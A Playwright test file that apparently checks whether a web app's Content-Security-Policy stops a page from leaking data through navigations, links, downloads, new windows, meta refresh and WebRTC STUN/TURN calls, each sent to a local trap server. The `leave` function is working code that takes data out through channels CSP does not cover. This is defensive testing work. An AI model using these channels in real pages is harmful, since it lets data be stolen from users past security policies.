import { setTimeout as pause } from 'node:timers/promises';
import { isFirefox, isWalkedIn, ONE_ENGINE } from './support/engines.ts';
import { expect, test } from './support/fixtures.ts';
import { untilShown } from './support/offline.ts';
import { createTrap } from './support/trap.ts';

const NAVIGATIONS = ['location', 'link', 'download', 'blank', 'window', 'refresh'];
/** WebRTC, by UDP and TCP. Firefox does not call addresses of its own machine, with or without a policy: nothing shows there. */
const CALLS = ['stun', 'connection'];

interface Leaving {
  readonly way: string;
  /** Addresses of the trap. */
  readonly origin: string;
  readonly bare: string;
}

/** In the page: goes out by a way that Content-Security-Policy has no word for. */
const leave = ({ way, origin, bare }: Leaving): void => {
  const to = `${origin}/${way}?what-the-page-knows`;
  const link = (fields: object): void => document.body.appendChild(Object.assign(document.createElement('a'), { href: to, ...fields })).click();
  const call = (server: string): void => {
    const connection = new RTCPeerConnection({ iceServers: [{ username: 'what-the-page-knows', credential: 'x', urls: server }] });
    connection.createDataChannel('x');
    void connection.setLocalDescription();
  };
  const ways: Readonly<Record<string, () => void>> = {
    location: () => location.assign(to),
    link: () => link({}),
    download: () => link({ download: 'x' }),
    blank: () => link({ target: '_blank' }),
    window: () => void window.open(to),
    refresh: () => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to}` })),
    stun: () => call(`stun:${origin.replace('http://', '')}`),
    connection: () => call(`turn:${bare.replace('http://', '')}?transport=tcp`),
  };
  // Later: what a driver runs is itself exempt from policies.
  setTimeout(() => ways[way]?.(), 10);
};

for (const headers of [true, false])
  test(`what a page could take along when it leaves; headers of the host: ${headers}`, async ({ context, ownApp }, info) => {
    test.setTimeout(240_000);
    // Its policies do not differ by where they stand; that it refuses none of these ways is seen with them.
    test.skip(!headers && isFirefox(info.project.name) && !isWalkedIn(info.project.name), ONE_ENGINE);
    const app = await ownApp({ headers });
    const firefox = isFirefox(info.project.name);
    const ways = firefox ? NAVIGATIONS : [...NAVIGATIONS, ...CALLS];
    const trap = await createTrap();
    for (const way of ways) {
      const page = await context.newPage();
      await page.goto(app.url);
      await untilShown(page);
      await page.evaluate(leave, { way, origin: trap.origin, bare: trap.bare });
    }
    // As long as the slowest needs, for all of them at once.
    await pause(3000);
    const caught = trap.caught().filter((name) => name !== 'favicon.ico');
    await trap.stop();
    // As the README says: Chromium alone refuses these, and only where the host says so.
    expect(caught).toEqual(headers && !firefox ? [] : ways.toSorted());
  });
